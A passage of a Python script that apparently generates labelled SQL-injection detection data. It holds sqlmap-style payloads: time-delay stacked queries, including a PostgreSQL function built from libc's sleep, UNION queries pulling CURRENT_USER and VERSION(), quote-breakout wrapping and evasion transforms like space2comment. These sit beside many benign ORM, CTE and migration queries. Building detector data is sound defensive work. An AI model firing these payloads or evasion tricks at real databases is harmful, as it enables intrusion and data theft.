            ("PostgreSQL < 8.2 stacked queries (Glibc - comment)", "PostgreSQL", ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)--" % t, False),
            ("PostgreSQL > 8.1 stacked queries (conditional)", "PostgreSQL", ";SELECT (CASE WHEN (%s) THEN (SELECT %d FROM PG_SLEEP(%d)) ELSE %d END)--" % (inf, a, t, a), False),
            ("MySQL >= 5.0.12 stacked queries (comment)", "MySQL", ";SELECT SLEEP(%d)#" % t, False),
            ("MySQL >= 5.0.12 stacked queries (query SLEEP)", "MySQL", ";(SELECT * FROM (SELECT(SLEEP(%d)))%s)" % (t, rs), False),
            ("Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", ";WAITFOR DELAY '0:0:%d'--" % t, False),
            ("Microsoft SQL Server/Sybase stacked queries (conditional)", "Microsoft SQL Server", ";IF(%d=%d) WAITFOR DELAY '0:0:%d'--" % (a, a, t), False),
            ("Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE - comment)", "Oracle", ";SELECT DBMS_PIPE.RECEIVE_MESSAGE('%s',%d) FROM DUAL--" % (rs, t), False),
            ("Oracle stacked queries (DBMS_SESSION.SLEEP - comment)", "Oracle", ";BEGIN DBMS_SESSION.SLEEP(%d); END--" % t, False),
            ("IBM DB2 stacked queries (heavy query - comment)", "IBM DB2", ";SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3--", False),
            ("HSQLDB >= 1.7.2 stacked queries (heavy query - comment)", "HSQLDB", ";CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(%d),0),%d00000000),NULL)--" % (a, t), False),
            ("SQLite > 2.0 stacked queries (heavy query - comment)", "SQLite", ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))--" % t, False),
            ("SAP MaxDB stacked queries (heavy query - comment)", "SAP MaxDB", ";SELECT COUNT(*) FROM (SELECT * FROM DOMAIN.DOMAINS WHERE %d=%d) AS T1,(SELECT * FROM DOMAIN.COLUMNS WHERE %d=%d) AS T2--" % (a, a, b, b), False),
        ]
    elif family == "sqlmap_union_query":
        ncol = rnum(1, 8)
        pos = rnum(0, ncol - 1)
        fill_ = pick(["NULL", str(a), "'%s'" % rword(4), "CHR(%d)" % rnum(65, 90)])
        val = pick(["'%s'||'%s'||'%s'" % (ds, rword(12, string.ascii_lowercase), de),
                    "'%s'||COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))||'%s'" % (ds, pick(["CURRENT_USER", "VERSION()", "CURRENT_DATABASE()"]), de),
                    "%s||%s||%s" % (chrenc(ds), chrenc(rword(6, string.ascii_lowercase)), chrenc(de))])
        cols = [fill_] * ncol
        cols[pos] = val
        mycols = ["NULL"] * ncol
        mycols[pos] = "CONCAT(%s,%s,%s)" % (mysql_hex(ds), mysql_hex(rword(10)), mysql_hex(de))
        opts = [
            ("Generic UNION query (%s) - %d columns" % (fill_.split("(")[0].strip("'") if fill_ != "NULL" else "NULL", ncol), "generic", "UNION ALL SELECT " + ",".join(cols), "union"),
            ("Generic UNION query (NULL) - %d columns (custom)" % ncol, "generic", "UNION SELECT " + ",".join(cols), "union"),
            ("MySQL UNION query (NULL) - %d columns" % ncol, "MySQL", "UNION ALL SELECT " + ",".join(mycols) + "#", "union"),
            ("Generic UNION query - ORDER BY column probing", "generic", "ORDER BY %d" % rnum(1, 30), "union"),
            ("Generic UNION query (random number) - %d columns, negative original" % ncol, "generic", "UNION ALL SELECT " + ",".join(cols), "negunion"),
        ]
    elif family == "sqlmap_inline_query":
        Q = q_pg()
        opts = [
            ("PostgreSQL inline queries", "PostgreSQL", "(SELECT '%s'||(%s)::text||'%s')" % (ds, Q, de), True),
            ("PostgreSQL inline queries (CHR)", "PostgreSQL", "(SELECT %s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||%s)" % (chrenc(ds), a, a, chrenc(de)), True),
            ("Generic inline queries", "generic", "(SELECT CONCAT(CONCAT('%s',(CASE WHEN (%d=%d) THEN '1' ELSE '0' END)),'%s'))" % (ds, a, a, de), True),
            ("MySQL inline queries", "MySQL", "(SELECT CONCAT(%s,(ELT(%d=%d,1)),%s))" % (mysql_hex(ds), a, a, mysql_hex(de)), True),
            ("Microsoft SQL Server/Sybase inline queries", "Microsoft SQL Server", "(SELECT '%s'+(SELECT (CASE WHEN (%d=%d) THEN '1' ELSE '0' END))+'%s')" % (ds, a, a, de), True),
            ("Oracle inline queries", "Oracle", "(SELECT ('%s'||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||'%s') FROM DUAL)" % (ds, a, a, de), True),
        ]
    else:
        raise KeyError(family)
    return pick(opts)


SQLMAP_SUFFIX = ["", "-- ", "-- -", "--", "#", "-- " + "{w}", "--+"]


def sqlmap_wrap(t, s, core, mode):
    sp = t["slots"][s]
    k = sp["kind"]
    brk, d = breakout(t, s)
    # sqlmap boundaries: sometimes the right number of closers, sometimes not
    if k in ("str", "estr", "dollar", "qid"):
        q = brk[0] if k != "dollar" else sp["tag"]
        nclose = pick([d, d, 0, 1, 2]) if d else pick([0, 0, 0, 1])
        pre = q + ")" * nclose
    else:
        nclose = pick([d, d, 0, 1, 2]) if d else pick([0, 0, 0, 1])
        pre = ")" * nclose
    o = orig_for(t, s) if k not in ("ident", "dir") else benign_value(t, s)
    if mode == "negunion":
        o = "-" + str(rnum(1000, 9999)) if k not in ("str", "estr", "dollar") else o
    if k in ("num", "int", "ilist") and not o:
        o = str(rnum(1, 9999))
    suf = pick(SQLMAP_SUFFIX).replace("{w}", rword(4))
    if core.endswith("--") or core.endswith("#"):
        suf = ""
    if suf == "" and not core.startswith(";") and not core.endswith(("--", "#")):
        # balanced suffix ("AND ('x'='x")
        if k in ("str", "estr"):
            w = rword(4)
            suf = " AND " + "(" * nclose + "'%s'='%s" % (w, w)
        elif k in ("num", "int", "ilist"):
            x = rnum(1000, 9999)
            suf = " AND " + "(" * nclose + "%d=%d" % (x, x)
    sep = "" if core.startswith((";", ",")) else " "
    return o + pre + sep + core + suf


def gen_sqlmap(family, n_target):
    got = 0
    tries = 0
    while got < n_target and tries < n_target * 40:
        tries += 1
        title, dbms, core, mode = sqlmap_payload(family)
        if mode == "order":
            t, s = pick(ORDER_SLOTS + NUM_SLOTS)
            o = benign_value(t, s)
            payload = o + core
            if R.random() < 0.4:
                payload += pick(["-- -", "--"])
            part = "vector"
        elif mode is True:
            t, s = pick(VALUE_SLOTS + ORDER_SLOTS)
            k = t["slots"][s]["kind"]
            core2 = core.replace("{orig}", pick(INT_POOL))
            if k in ("num", "int", "ilist", "ident", "dir"):
                payload = core2
            else:
                # string context: sqlmap replaces inside the quotes, needs a breakout
                brk, d = breakout(t, s)
                payload = orig_for(t, s) + brk[0] + "||" + core2 + "||" + brk[0] if k != "dollar" else t["slots"][s]["tag"] + "||" + core2 + "||" + t["slots"][s]["tag"]
            part = "payload"
        else:
            t, s = pick(VALUE_SLOTS + ORDER_SLOTS * 1)
            core2 = core.replace("{orig}", pick(INT_POOL))
            if t["slots"][s]["kind"] in ("ident", "dir") and not core2.startswith(";") and mode != "union":
                continue
            payload = sqlmap_wrap(t, s, core2, mode)
            part = "payload" if R.random() < 0.5 else "vector"
        # occasional tamper scripts (space2comment / randomcase / between / charencode)
        tamper = ""
        x = R.random()
        if x < 0.08:
            payload = payload.replace(" ", "/**/")
            tamper = "+space2comment"
        elif x < 0.14:
            payload = case_mix(payload)
            tamper = "+randomcase"
        elif x < 0.18 and ">" in payload:
            payload = re.sub(r">(\d+)", lambda m: " NOT BETWEEN 0 AND " + m.group(1), payload, count=1)
            tamper = "+between"
        elif x < 0.21:
            payload = payload.replace(" ", pick(["%20", "+"])) if False else payload.replace(" ", "\t")
            tamper = "+space2tab"
        if try_attack(t, s, payload, family, "sqlmap:%s:%s%s" % (title, part, tamper), dbms):
            got += 1
    return got


# ---------------------------------------------------------------------------
# Benign: inputs into templates
# ---------------------------------------------------------------------------
def gen_benign_inputs(cat, n_target):
    got = 0
    tries = 0
    while got < n_target and tries < n_target * 60:
        tries += 1
        if cat == "input_numeric":
            t, s = pick(NUM_SLOTS)
            k = t["slots"][s]["kind"]
            if k == "ilist":
                v = ", ".join(str(rnum(1, 99999)) for _ in range(R.randint(1, 8)))
            elif k == "int":
                v = str(pick([rnum(0, 100), rnum(100, 100000), rnum(1, 9999999)]))
            else:
                v = pick([str(rnum(-500, 50000)), "%d.%02d" % (rnum(0, 999), rnum(0, 99)), "-%d.%d" % (rnum(0, 180), rnum(0, 999999))])
            spliced = v
        elif cat == "input_identifier":
            t, s = pick(ORDER_SLOTS + injectable_slots(("qid",)))
            v = pick(IDENT_POOL[t["slots"][s]["dom"]])
            spliced = esc(t["slots"][s]["kind"], v)
        elif cat == "input_formatted":
            t, s = pick(STR_SLOTS + ESTR_SLOTS)
            dom = t["slots"][s]["dom"]
            v = pick(DOMAIN[dom]) if dom in DOMAIN and R.random() < 0.6 else pick(POOL["input_formatted"])
            spliced = esc(t["slots"][s]["kind"], v)
        else:
            t, s = pick(STR_SLOTS * 3 + ESTR_SLOTS + injectable_slots(("dollar",)))
            v = pick(POOL[cat])
            k = t["slots"][s]["kind"]
            if k == "dollar" and t["slots"][s]["tag"] in v:
                continue
            spliced = esc(k, v)
        raw, vals = benign_fill_all(t, {s: (v, spliced)})
        sql = fill(t, vals)
        assert skeleton(sql) in BENIGN_SK[t["name"]], (sql, skeleton(sql))
        if add(sql, "benign", cat, t["name"], "benign:" + cat[6:], [raw[x] for x in t["slots"]], v):
            got += 1
    return got


def gen_escaped(n_target):
    """Attack strings that the application escaped correctly."""
    got = 0
    tries = 0
    fams = ["tautology", "union", "stacked", "boolean_blind", "time_pg_sleep", "error_cast", "oob_file_program",
            "plpgsql_do_exec", "string_concat_subquery", "comment_truncation", "dollar_quote", "e_escape"]
    sqfams = ["sqlmap_boolean_blind", "sqlmap_error_based", "sqlmap_time_blind", "sqlmap_stacked_queries", "sqlmap_union_query"]
    while got < n_target and tries < n_target * 40:
        tries += 1
        t, s = pick(STR_SLOTS * 3 + ESTR_SLOTS + injectable_slots(("qid",)))
        k = t["slots"][s]["kind"]
        if R.random() < 0.6:
            fam = pick(fams)
            var, core = pick(hand_cores(fam))
            o = pick(["", "x", "admin", rword(4, string.ascii_lowercase)])
            if fam == "string_concat_subquery":
                raw = o + "'" + core + "'"
            elif fam == "comment_truncation":
                raw = o + "'" + core
            else:
                raw = o + pick(["'", "')", "' ", "\""]) + (" " if not core.startswith(";") else "") + core + pick(["--", "-- -", "", "/*"])
            variant = "escaped:%s:%s" % (fam, var)
        else:
            fam = pick(sqfams)
            title, dbms, core, mode = sqlmap_payload(fam)
            core = core.replace("{orig}", "1")
            raw = pick(["", "1", "x"]) + pick(["'", "')", "'))", ""]) + ("" if core.startswith((";", ",")) else " ") + core + pick(["-- -", "#", "", "--"])
            variant = "escaped:sqlmap:%s" % title
        if k == "qid":
            raw = raw.replace("'", '"')
        spliced = esc(k, raw)
        raw_all, vals = benign_fill_all(t, {s: (raw, spliced)})
        sql = fill(t, vals)
        if skeleton(sql) not in BENIGN_SK[t["name"]]:
            raise AssertionError("escaped string broke structure: " + sql)
        if add(sql, "benign", "escaped_attack_string", t["name"], variant, [raw_all[x] for x in t["slots"]], raw):
            got += 1
    return got


# ---------------------------------------------------------------------------
# Benign complex statements
# ---------------------------------------------------------------------------
def d8():
    return "20%02d-%02d-%02d" % (rnum(19, 25), rnum(1, 12), rnum(1, 28))


FIRST = ["Ines", "Marek", "Aroha", "Tomás", "Priya", "Kwame", "Saoirse", "Yusuf", "Mei", "Björn", "Rosa", "D'Andre"]


def sq(v):
    return "'" + v.replace("'", "''") + "'"


def complex_gen(family):
    n = rnum(1, 9999)
    m = rnum(2, 60)
    name = pick(FIRST)
    if family == "complex_orm_generated":
        return pick([
            ("cx7_sqlalchemy_joinedload", "SELECT pets.id AS pets_id, pets.pet_name AS pets_pet_name, vaccinations_1.id AS vaccinations_1_id, vaccinations_1.vaccine AS vaccinations_1_vaccine FROM pets LEFT OUTER JOIN pet_vaccinations AS vaccinations_1 ON pets.id = vaccinations_1.pet_id WHERE pets.clinic_id = %d ORDER BY pets.id" % n),
            ("cx7_django_values_annotate", "SELECT \"fleet_trip\".\"driver_id\", COUNT(\"fleet_trip\".\"id\") AS \"n\", AVG(\"fleet_trip\".\"distance_km\") AS \"avg_km\" FROM \"fleet_trip\" WHERE \"fleet_trip\".\"started_at\" >= '%s'::date GROUP BY \"fleet_trip\".\"driver_id\" ORDER BY \"n\" DESC" % d8()),
            ("cx7_activerecord_includes", "SELECT \"library_loans\".* FROM \"library_loans\" WHERE \"library_loans\".\"patron_id\" IN (%s) AND \"library_loans\".\"returned_at\" IS NULL" % ", ".join(str(rnum(1, 9999)) for _ in range(rnum(1, 6)))),
            ("cx7_hibernate_alias", "select w1_0.id,w1_0.slug,w1_0.plan_code from workspaces w1_0 where w1_0.slug=%s and w1_0.deleted=false fetch first %d rows only" % (sq(pick(DOMAIN["tenant"])), m)),
            ("cx7_ecto_subquery", "SELECT s0.\"id\", s0.\"title\" FROM \"wiki_pages\" AS s0 WHERE (s0.\"space_id\" = %d) AND (s0.\"id\" IN (SELECT sr0.\"page_id\" FROM \"page_stars\" AS sr0 WHERE (sr0.\"user_id\" = %d)))" % (n, m)),
            ("cx7_gorm_upsert", "INSERT INTO \"api_daily_quota\" (\"client_key\",\"day\",\"calls\") VALUES (%s,'%s',%d) ON CONFLICT (\"client_key\",\"day\") DO UPDATE SET \"calls\"=\"excluded\".\"calls\" RETURNING \"id\"" % (sq(pick(DOMAIN["tenant"])), d8(), m)),
            ("cx7_prisma_nested", "SELECT \"public\".\"Courier\".\"id\", \"public\".\"Courier\".\"zone\" FROM \"public\".\"Courier\" WHERE (\"public\".\"Courier\".\"zone\" = %s AND \"public\".\"Courier\".\"active\" = true) ORDER BY \"public\".\"Courier\".\"id\" ASC LIMIT %d OFFSET 0" % (sq(pick(DOMAIN["zone"])), m)),
            ("cx7_sequelize_findall", "SELECT \"id\", \"handle\", \"createdAt\" FROM \"console_operators\" AS \"ConsoleOperator\" WHERE \"ConsoleOperator\".\"handle\" = %s AND \"ConsoleOperator\".\"locked\" = false LIMIT 1;" % sq(pick(DOMAIN["handle"]))),
            ("cx7_typeorm_qb", "SELECT \"exam\".\"id\" AS \"exam_id\", \"exam\".\"code\" AS \"exam_code\" FROM \"exams\" \"exam\" WHERE \"exam\".\"code\" = %s AND \"exam\".\"deleted_at\" IS NULL" % sq(pick(DOMAIN["exam"]))),
            ("cx7_diesel_boxed", "SELECT \"sky_observations\".\"obs_id\", \"sky_observations\".\"ra\" FROM \"sky_observations\" WHERE \"sky_observations\".\"magnitude\" < %d.%d AND \"sky_observations\".\"observer\" = %s ORDER BY \"sky_observations\".\"obs_id\" DESC LIMIT %d" % (rnum(1, 9), rnum(0, 9), sq(name), m)),
        ])
    if family == "complex_cte_window":
        return pick([
            ("cx7_cte_sessionize", "WITH gaps AS (SELECT user_id, ts, CASE WHEN ts - lag(ts) OVER (PARTITION BY user_id ORDER BY ts) > interval '%d minutes' THEN 1 ELSE 0 END AS new_session FROM funnel_events) SELECT user_id, ts, sum(new_session) OVER (PARTITION BY user_id ORDER BY ts) AS session_no FROM gaps" % m),
            ("cx7_recursive_manager", "WITH RECURSIVE chain(id, manager_id, depth) AS (SELECT id, manager_id, 0 FROM staff WHERE id = %d UNION ALL SELECT s.id, s.manager_id, c.depth + 1 FROM staff s JOIN chain c ON s.id = c.manager_id WHERE c.depth < 10) SELECT * FROM chain" % n),
            ("cx7_ntile_scores", "SELECT student_id, score, ntile(%d) OVER (ORDER BY score DESC) AS band, first_value(score) OVER w AS best FROM exam_scores WHERE exam_code = %s WINDOW w AS (ORDER BY score DESC)" % (rnum(3, 10), sq(pick(DOMAIN["exam"])))),
            ("cx7_moving_avg_range", "SELECT ts, avg(cpu_pct) OVER (ORDER BY ts RANGE BETWEEN interval '%d minutes' PRECEDING AND CURRENT ROW) AS ma FROM host_metrics WHERE host = 'db-%d'" % (m, rnum(1, 20))),
            ("cx7_materialized_cte", "WITH top_merchants AS MATERIALIZED (SELECT merchant_id, count(*) AS n FROM card_swipes GROUP BY merchant_id ORDER BY n DESC LIMIT %d) SELECT m.name, t.n FROM top_merchants t JOIN merchants m USING (merchant_id)" % m),
            ("cx7_cte_delete_move", "WITH moved AS (DELETE FROM library_loans WHERE returned_at < now() - interval '%d days' RETURNING *) INSERT INTO library_loans_archive SELECT * FROM moved" % rnum(90, 900)),
            ("cx7_dense_rank_lateral", "SELECT d.driver_id, t.trip_id, t.distance_km FROM drivers d CROSS JOIN LATERAL (SELECT trip_id, distance_km, dense_rank() OVER (ORDER BY distance_km DESC) AS r FROM fleet_trips WHERE driver_id = d.driver_id) t WHERE t.r <= %d" % rnum(1, 5)),
        ])
    if family == "complex_builtin_funcs":
        return pick([
            ("cx7_format_funcs", "SELECT format('%%s-%%s', clinic_code, lpad(pet_id::text, %d, '0')) FROM pets WHERE pet_id = %d" % (rnum(4, 9), n)),
            ("cx7_regexp_matches", "SELECT regexp_matches(hostname, '^([a-z]+)-(\\d+)$') FROM rack_servers WHERE rack = 'R%02d'" % rnum(1, 40)),
            ("cx7_jsonb_build", "SELECT jsonb_build_object('id', submission_id, 'answers', answers - 'internal_notes') FROM form_submissions WHERE submission_id = %d" % n),
            ("cx7_array_funcs", "SELECT array_to_string(array_remove(skills, 'legacy'), ', '), cardinality(skills) FROM consultant_profiles WHERE person_id = %d" % n),
            ("cx7_date_funcs", "SELECT extract(isodow FROM brewed_on), to_char(brewed_on, 'YYYY-\"W\"IW'), age(now(), brewed_on) FROM brew_batches WHERE batch_no = %d" % n),
            ("cx7_estring_tab", "SELECT replace(line, E'\\t', '    ') FROM build_logs WHERE job_id = %d LIMIT 50" % n),
            ("cx7_crypto", "SELECT encode(digest(lot_number || ':' || %d, 'sha256'), 'hex') FROM pet_vaccinations WHERE id = %d" % (m, n)),
            ("cx7_string_agg_order", "SELECT clinic_id, string_agg(DISTINCT species, ' | ' ORDER BY species) FROM pets GROUP BY clinic_id HAVING count(*) > %d" % m),
            ("cx7_geo_funcs", "SELECT station_code, ST_AsGeoJSON(geom)::jsonb, ST_Y(geom), ST_X(geom) FROM charging_stations WHERE ST_DWithin(geom::geography, ST_MakePoint(%d.%d, %d.%d)::geography, %d)" % (rnum(-120, 30), rnum(0, 999), rnum(-40, 60), rnum(0, 999), rnum(500, 9000))),
            ("cx7_chr_ascii_legit", "SELECT chr(%d) || substr(pet_name, 2), ascii(pet_name) FROM pets WHERE pet_id = %d" % (rnum(65, 90), n)),
            ("cx7_current_setting", "SELECT current_setting('app.current_tenant', true) AS tenant, current_user, now() AT TIME ZONE 'UTC'"),
            ("cx7_ts_funcs", "SELECT to_tsvector('english', title) || to_tsvector('simple', coalesce(summary, '')) FROM wiki_pages WHERE page_id = %d" % n),
        ])
    if family == "complex_comments_hints":
        return pick([
            ("cx7_sqlcommenter", "SELECT trip_id FROM fleet_trips WHERE driver_id = %d /*controller='trips',action='index',framework='flask',traceparent='00-%s-%s-01'*/" % (n, "".join(R.choice("0123456789abcdef") for _ in range(32)), "".join(R.choice("0123456789abcdef") for _ in range(16)))),
            ("cx7_pg_hint_plan", "/*+ IndexScan(p pets_clinic_idx) Leading((p v)) */ SELECT p.pet_name, v.vaccine FROM pets p JOIN pet_vaccinations v ON v.pet_id = p.id WHERE p.clinic_id = %d" % n),
            ("cx7_header_block", "/*\n * nightly export: seats per workspace\n * owner: billing-team (don't DROP without asking)\n */\nSELECT workspace_slug, count(*) FROM workspace_seats WHERE revoked_at IS NULL GROUP BY 1"),
            ("cx7_line_comments_between", "SELECT batch_no,\n       og - fg AS attenuation -- gravity points\n  FROM brew_batches\n -- only finished batches; union with archive later\n WHERE fg IS NOT NULL AND brewed_on > '%s'" % d8()),
            ("cx7_trailing_comment", "SELECT count(*) FROM vpn_sessions WHERE login_at > now() - interval '%d hours' -- ops dashboard tile" % m),
            ("cx7_nested_comment", "SELECT /* outer /* nested: SELECT 1; */ still comment */ obs_id FROM sky_observations WHERE obs_id = %d" % n),
            ("cx7_app_tag_comment", "-- app=vet-portal route=/pets/%d user=%s\nSELECT * FROM pets WHERE pet_id = %d" % (n, name.replace("'", ""), n)),
        ])
    if family == "complex_migration_script":
        ver = "%s%06d" % (d8().replace("-", ""), rnum(0, 235959))
        return pick([
            ("cx7_flyway_script", "-- V%d__add_microchip.sql\nALTER TABLE pets ADD COLUMN microchip_id text;\nCREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS pets_microchip_uq ON pets (microchip_id) WHERE microchip_id IS NOT NULL;\nCOMMENT ON COLUMN pets.microchip_id IS 'ISO 11784 id; don''t expose';" % rnum(10, 400)),
            ("cx7_goose_up", "-- +goose Up\nCREATE TABLE courier_shifts (id bigserial PRIMARY KEY, courier_id bigint NOT NULL REFERENCES couriers(courier_id), starts_at timestamptz NOT NULL, ends_at timestamptz);\n-- +goose Down\nDROP TABLE courier_shifts;"),
            ("cx7_rails_schema_migrations", "INSERT INTO \"schema_migrations\" (\"version\") VALUES ('%s') RETURNING \"version\"" % ver),
            ("cx7_knex_lock", "UPDATE \"knex_migrations_lock\" SET \"is_locked\" = 1 WHERE \"is_locked\" = 0"),
            ("cx7_sqitch_deploy", "BEGIN;\nSET search_path TO fleet, public;\nALTER TABLE fleet_trips ADD CONSTRAINT fleet_trips_distance_ck CHECK (distance_km >= 0) NOT VALID;\nALTER TABLE fleet_trips VALIDATE CONSTRAINT fleet_trips_distance_ck;\nCOMMIT;"),
            ("cx7_backfill_batches", "UPDATE exam_scores SET percentile = sub.p FROM (SELECT id, percent_rank() OVER (PARTITION BY exam_code ORDER BY score) AS p FROM exam_scores WHERE id BETWEEN %d AND %d) sub WHERE exam_scores.id = sub.id" % (n, n + 5000)),
        ])
    if family == "complex_query_builder":
        conds = ["clinic_id = %d" % n, "species = %s" % sq(pick(["cat", "dog", "rabbit", "ferret"])), "weight_kg > %d" % rnum(1, 40),
                 "pet_name ILIKE %s" % sq("%" + pick(["max", "luna", "o'malley", "bean"]) + "%"), "born_on >= '%s'" % d8(), "neutered IS TRUE"]
        R.shuffle(conds)
        k = rnum(1, 4)
        return pick([
            ("cx7_builder_true_and", "SELECT pet_id, pet_name FROM pets WHERE true AND " + " AND ".join(conds[:k]) + " ORDER BY pet_name LIMIT %d" % m),
            ("cx7_builder_or_group", "SELECT pet_id FROM pets WHERE (" + " OR ".join(conds[:k + 1]) + ") AND deleted_at IS NULL"),
            ("cx7_builder_1eq0_or", "SELECT id FROM workspace_seats WHERE 1 = 0 OR role = %s OR role = %s" % (sq(pick(["owner", "admin"])), sq(pick(["billing", "viewer", "editor"])))),
        ])
    if family == "complex_batch_insert":
        rows = []
        for _ in range(rnum(2, 6)):
            rows.append("(%d, %s, %s, '%s')" % (rnum(1, 9999), sq(pick(POOL["input_plain"] + POOL["input_apostrophe_names"] + POOL["input_sql_words"])), sq(pick(DOMAIN["lot"])), d8()))
        return pick([("cx7_multi_values", "INSERT INTO pet_vaccinations (pet_id, vaccine, lot_number, given_on) VALUES " + ", ".join(rows)),
                     ("cx7_insert_unnest", "INSERT INTO telemetry_points (device_serial, reading, taken_at) SELECT * FROM unnest(ARRAY[%s], ARRAY[%s], ARRAY[%s]::timestamptz[])" % (
                         ", ".join(sq("DEV-%04d" % rnum(0, 9999)) for _ in range(3)), ", ".join("%d.%d" % (rnum(0, 99), rnum(0, 9)) for _ in range(3)), ", ".join(sq(d8()) for _ in range(3))))])
    if family == "complex_transactions":
        return pick([
            ("cx7_begin_iso", "BEGIN TRANSACTION ISOLATION LEVEL %s" % pick(["SERIALIZABLE", "REPEATABLE READ", "READ COMMITTED"])),
            ("cx7_release_sp", "RELEASE SAVEPOINT batch_%d" % n), ("cx7_set_local", "SET LOCAL statement_timeout = '%ds'" % m),
            ("cx7_commit_and_chain", "COMMIT AND CHAIN"), ("cx7_prepare_tx", "PREPARE TRANSACTION 'tx_%d'" % n),
            ("cx7_commit_prepared", "COMMIT PREPARED 'tx_%d'" % n), ("cx7_abort", "ABORT"),
            ("cx7_start_ro", "START TRANSACTION READ ONLY DEFERRABLE"),
        ])
    if family == "complex_maintenance_admin":
        tb = pick(["pets", "fleet_trips", "telemetry_points", "library_loans", "usage_records", "card_swipes"])
        return pick([
            ("cx7_vacuum", "VACUUM (VERBOSE, ANALYZE, PARALLEL %d) %s" % (rnum(1, 4), tb)),
            ("cx7_cluster", "CLUSTER %s USING %s_pkey" % (tb, tb)),
            ("cx7_activity", "SELECT pid, state, wait_event_type, left(query, 60) FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' ORDER BY query_start LIMIT %d" % m),
            ("cx7_table_size", "SELECT pg_size_pretty(pg_total_relation_size('%s')), pg_size_pretty(pg_indexes_size('%s'))" % (tb, tb)),
            ("cx7_cancel_own", "SELECT pg_cancel_backend(%d)" % rnum(1000, 60000)),
            ("cx7_advisory", "SELECT pg_try_advisory_lock(%d)" % n), ("cx7_checkpoint", "CHECKPOINT"),
            ("cx7_stat_reset", "SELECT pg_stat_reset_single_table_counters('%s'::regclass)" % tb),
            ("cx7_alter_table_set", "ALTER TABLE %s SET (autovacuum_vacuum_scale_factor = 0.0%d)" % (tb, rnum(1, 9))),
        ])
    if family == "complex_union_report":
        return pick([
            ("cx7_union_status_counts", "SELECT 'scheduled' AS k, count(*) FROM vet_appointments WHERE status = 'scheduled' AND clinic_id = %d UNION ALL SELECT 'cancelled', count(*) FROM vet_appointments WHERE status = 'cancelled' AND clinic_id = %d" % (n, n)),
            ("cx7_union_sources", "SELECT handle AS who, 'operator' AS kind FROM console_operators WHERE created_at > '%s' UNION SELECT legal_name, 'client' FROM vet_clients WHERE created_at > '%s' ORDER BY 1" % (d8(), d8())),
            ("cx7_except_report", "SELECT patron_id FROM library_loans WHERE due_on < current_date EXCEPT SELECT patron_id FROM patron_waivers WHERE year = %d" % rnum(2019, 2025)),
        ])
    if family == "complex_copy_stdin":
        tb = pick(["pets", "fleet_trips", "exam_scores", "telemetry_points"])
        return pick([
            ("cx7_copy_from_stdin_csv", "COPY %s FROM STDIN WITH (FORMAT csv, HEADER true, NULL '')" % tb),
            ("cx7_copy_query_stdout", "COPY (SELECT * FROM %s WHERE id > %d ORDER BY id) TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE *)" % (tb, n)),
            ("cx7_copy_binary", "COPY %s (id, created_at) TO STDOUT (FORMAT binary)" % tb),
            ("cx7_copy_delim", "COPY %s FROM STDIN WITH (DELIMITER '|', ENCODING 'UTF8', FREEZE false)" % tb),
        ])
    if family == "complex_ddl_migration":
        return pick([
            ("cx7_create_index_expr", "CREATE INDEX IF NOT EXISTS idx_pets_lower_name_%d ON pets (lower(pet_name) text_pattern_ops)" % n),
            ("cx7_add_fk", "ALTER TABLE pet_vaccinations ADD CONSTRAINT fk_vax_pet_%d FOREIGN KEY (pet_id) REFERENCES pets(id) ON DELETE CASCADE" % n),
            ("cx7_create_enum", "CREATE TYPE loan_state_%d AS ENUM ('out', 'returned', 'lost')" % n),
            ("cx7_drop_column", "ALTER TABLE fleet_trips DROP COLUMN IF EXISTS legacy_code_%d" % m),
            ("cx7_partition", "CREATE TABLE telemetry_points_y%d PARTITION OF telemetry_points FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % ((lambda y: (y, y, y + 1))(rnum(2019, 2030)))),
        ])
    if family == "complex_orm_introspection":
        return pick([
            ("cx7_pg_index_probe", "SELECT indexrelid::regclass, indisunique FROM pg_index WHERE indrelid = '%s'::regclass" % pick(["pets", "fleet_trips", "wiki_pages"])),
            ("cx7_search_path", "SHOW search_path"), ("cx7_txid", "SELECT pg_current_xact_id()"),
            ("cx7_attribute_probe", "SELECT a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_attribute a WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped" % pick(["pets", "couriers", "exam_scores"])),
        ])
    if family == "complex_parameterized":
        return pick([
            ("cx7_param_keyset", "SELECT thread_id FROM discussion_threads WHERE (last_post_at, thread_id) < ($1, $2) ORDER BY last_post_at DESC, thread_id DESC LIMIT $3"),
            ("cx7_param_upsert", "INSERT INTO api_daily_quota (client_key, day, calls) VALUES ($1, $2, $3) ON CONFLICT (client_key, day) DO UPDATE SET calls = api_daily_quota.calls + $3"),
            ("cx7_param_any", "SELECT person_id FROM consultant_profiles WHERE skills && $1::text[] AND hourly_rate <= $%d" % 2),
            ("cx7_param_returning", "UPDATE vet_appointments SET status = $1, updated_by = current_user WHERE appointment_id = $2 RETURNING appointment_id, status"),
            ("cx7_param_jsonb", "SELECT submission_id FROM form_submissions WHERE answers @> $1::jsonb AND created_at >= $2::timestamptz ORDER BY submission_id LIMIT $3"),
            ("cx7_param_in_any", "DELETE FROM library_loans WHERE loan_id = ANY($1::bigint[]) AND returned_at IS NOT NULL RETURNING loan_id"),
        ])
    if family == "complex_plpgsql_body":
        return pick([
            ("cx7_fn_returns_table", "CREATE OR REPLACE FUNCTION overdue_loans(p_days int) RETURNS TABLE(loan_id bigint, patron text) LANGUAGE plpgsql STABLE AS $fn$\nBEGIN\n  RETURN QUERY SELECT l.loan_id, l.patron_card FROM library_loans l WHERE l.due_on < current_date - p_days;\nEND;\n$fn$"),
